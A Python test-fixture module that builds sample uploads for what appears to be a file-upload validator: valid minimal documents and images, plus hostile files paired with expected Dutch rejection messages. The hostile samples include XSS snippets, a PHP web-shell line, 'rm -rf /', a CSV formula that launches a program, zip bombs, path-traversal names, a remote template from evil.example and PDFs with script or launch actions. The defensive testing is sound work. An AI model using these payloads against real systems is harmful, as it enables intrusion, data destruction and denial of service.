"""Files to send: good ones as small as they can be, and hostile ones. Made here, none comes from elsewhere."""

import io
import random
import zipfile
import zlib

from PIL import Image

OFFICE = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": ("word/document.xml", f"{OFFICE}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OFFICE}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OFFICE}.presentationml.presentation.main+xml"),
}
PICTURES = ("PNG", "JPEG", "WEBP", "GIF")
OPEN = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return whole.getvalue()


def office(kind: str, more: dict[str, bytes | str] | None = None, types: str = "") -> bytes:
    part, content_type = MAIN[kind]
    listed = f'<Types><Override PartName="/{part}" ContentType="{content_type}"/>{types}</Types>'
    return zipped({"[Content_Types].xml": listed, part: "<x/>"} | (more or {}))


def open_document(kind: str) -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{OPEN[kind]}", "content.xml": "<x/>"})


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    whole = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(whole, form, **options)
    return whole.getvalue()


def photograph() -> bytes:
    """A JPEG that lies on its side (orientation 6) and tells where it was taken."""
    about = Image.Exif()
    about[0x0112] = 6
    about[0x010F] = "Fabrikant"
    place = about.get_ifd(0x8825)
    place[1], place[2] = "N", (52.0, 22.0, 12.0)
    return picture("JPEG", (40, 20), exif=about, comment=b"geheim")


GOOD = {
    "plan.pdf": PDF,
    **{f"stuk.{kind}": office(kind) for kind in MAIN},
    **{f"stuk.{kind}": open_document(kind) for kind in OPEN},
    "brief.txt": b"Beste bewoners van {{gemeente}},\nBel {{contact}}.\n",
    "lijst.csv": b"naam;aantal\nopvang;12\n",
    "uitleg.md": b"# Uitleg\n\n- een\n- twee\n",
    "foto.jpg": picture("JPEG"),
    "kaart.png": picture("PNG"),
    "logo.webp": picture("WEBP"),
    "knop.gif": picture("GIF"),
}


def bomb() -> bytes:
    """A document of 300 kB that becomes 320 MB."""
    return office("docx", {"word/media/a.bin": b"\0" * 160_000_000, "word/media/b.bin": b"\0" * 160_000_000})


def lying_bomb() -> bytes:
    """Says in its list of contents that it is small: 100 parts on the same bytes."""
    whole = bytearray(office("docx", {f"word/p{number}.xml": b"x" * 5_000 for number in range(100)}))
    end = whole.rindex(b"PK\5\6")
    start = int.from_bytes(whole[end + 16 : end + 20], "little")
    place, first = start, None
    while whole[place : place + 4] == b"PK\1\2":
        names = sum(int.from_bytes(whole[place + at : place + at + 2], "little") for at in (28, 30, 32))
        if b"word/p" in whole[place + 46 : place + 46 + names]:
            first = first or bytes(whole[place + 42 : place + 46])
            whole[place + 42 : place + 46] = first
        place += 46 + names
    return bytes(whole)


def many_parts() -> bytes:
    return office("xlsx", {f"xl/p{number}.xml": "" for number in range(5_000)})


def huge_picture() -> bytes:
    """A PNG that says it is 60,000 x 60,000 points."""
    whole = bytearray(picture("PNG"))
    whole[16:24] = (60_000).to_bytes(4, "big") * 2
    whole[29:33] = zlib.crc32(bytes(whole[12:29])).to_bytes(4, "big")
    return bytes(whole)


def truncated(form: str) -> bytes:
    whole = io.BytesIO()
    noise = Image.frombytes("RGB", (200, 200), random.Random(1).randbytes(120_000))
    noise.save(whole, form)
    return whole.getvalue()[: len(whole.getvalue()) // 2]


def encrypted() -> bytes:
    """A document whose parts say that they are encrypted."""
    whole = bytearray(office("docx"))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = whole.find(mark)
        while place >= 0:
            whole[place + at] |= 1
            place = whole.find(mark, place + 4)
    return bytes(whole)


def from_elsewhere() -> bytes:
    """A document that fetches its template, with whatever is in it, from another place."""
    link = '<R Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    return office("docx", {"word/_rels/settings.xml.rels": link})


REFUSED = {
    "an svg that says it is a png": ("plaatje.png", SVG, "Dit soort bestand"),
    "an svg": ("plaatje.svg", SVG, "Dit soort bestand"),
    "html": ("pagina.html", HTML, "Dit soort bestand"),
    "html that says it is text": ("pagina.txt", HTML, "webpagina of een programma"),
    "html in utf-16 that says it is text": ("pagina.txt", HTML.decode().encode("utf-16"), "webpagina of een programma"),
    "php that says it is a csv": ("lijst.csv", b"<?php system($_GET[0]);", "webpagina of een programma"),
    "a program": ("hulp.exe", b"MZ\x90\0" + b"\0" * 200, "Dit soort bestand"),
    "a program that says it is a pdf": ("hulp.pdf", b"MZ\x90\0" + b"\0" * 200, "Dit soort bestand"),
    "a program that says it is text": ("hulp.txt", b"MZ\x90\0" + b"\0" * 200, "geen leesbare tekst"),
    "a script": ("hulp.sh", b"#!/bin/sh\nrm -rf /\n", "Dit soort bestand"),
    "a batch file": ("hulp.bat", b"del *.*", "Dit soort bestand"),
    "a table that starts a program": ("lijst.csv", b"a;b\n=cmd|' /C calc'!A0;1\n", "een programma start"),
    "nothing": ("leeg.pdf", b"", "leeg"),
    "a zip": ("alles.zip", zipped({"a.txt": "a"}), "Dit soort bestand"),
    "a jar": ("a.docx", zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "Dit soort bestand"),
    "a zip bomb": ("bom.docx", bomb(), "veel te groot"),
    "a zip with overlapping parts": ("bom.docx", lying_bomb(), "beschadigd"),
    "a zip of 5,000 parts": ("bom.xlsx", many_parts(), "veel te groot"),
    "a zip with a name that climbs": ("a.docx", office("docx", {"../../etc/passwd": "x"}), "onveilige bestandsnaam"),
    "a zip with a name from the root": ("a.docx", office("docx", {"/etc/passwd": "x"}), "onveilige bestandsnaam"),
    "a zip with a name of Windows": ("a.docx", office("docx", {"word\\..\\a.xml": "x"}), "onveilige bestandsnaam"),
    "a sheet with macros": ("a.xlsx", office("xlsx", {"xl/vbaProject.bin": "x"}), "macro’s"),
    "a sheet with old macros": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "x"}), "macro’s"),
    "a sheet that says it has macros": ("a.xlsx", office("xlsx", types="sheet.macroEnabled.main+xml"), "macro’s"),
    "an embedded object": ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": "x"}), "ingesloten object"),
    "an embedded program": ("a.pptx", office("pptx", {"ppt/media/hulp.exe": "x"}), "hulp.exe"),
    "a template from elsewhere": ("a.docx", from_elsewhere(), "sjabloon"),
    "an encrypted document": ("a.docx", encrypted(), "wachtwoord"),
    "an old document": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Sla het op als docx"),
    "a document with something before it": ("a.docx", b"PK\3\4" + office("docx"), "beschadigd"),
    "a document with something behind it": ("a.docx", office("docx") + HTML, "beschadigd"),
    "half a document": ("a.docx", office("docx")[:150], "beschadigd"),
    "half a pdf": ("a.pdf", PDF[:40], "niet compleet"),
    "a pdf with a script": (
        "a.pdf",
        PDF.replace(b"/Type", b"/OpenAction << /S /JavaScript /JS (x) >> /Type"),
        "script",
    ),
    "a pdf with a script in disguise": ("a.pdf", PDF.replace(b"/Type", b"/J#61vaScript 2 0 R /Type"), "script"),
    "a pdf that starts a program": ("a.pdf", PDF.replace(b"/Type", b"/S /Launch /Type"), "script"),
    "an encrypted pdf": ("a.pdf", PDF.replace(b"trailer <<", b"trailer << /Encrypt 3 0 R"), "beveiligd"),
    "a huge picture": ("a.png", huge_picture(), "beeldpunten"),
    **{f"half a {form}": (f"a.{form.lower()}", truncated(form), "beschadigd") for form in PICTURES},
    "a picture that is only a mark": ("a.gif", b"GIF89a/*" + HTML, "afbeelding"),
}
